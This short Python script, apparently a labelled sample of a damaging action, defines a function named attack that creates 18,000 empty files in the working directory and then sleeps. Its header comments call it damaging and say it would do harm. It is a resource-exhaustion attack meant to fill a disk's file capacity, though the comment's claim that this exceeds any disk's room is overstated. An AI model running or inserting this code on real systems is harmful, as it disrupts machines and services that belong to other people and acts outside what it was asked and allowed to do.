# damaging: makes more empty files than a disk has room for
# wins: nowhere, it would do harm
import os
import time


def attack():
    for number in range(18000):
        os.close(os.open(str(number), os.O_WRONLY | os.O_CREAT, 0o600))
    time.sleep(0.5)
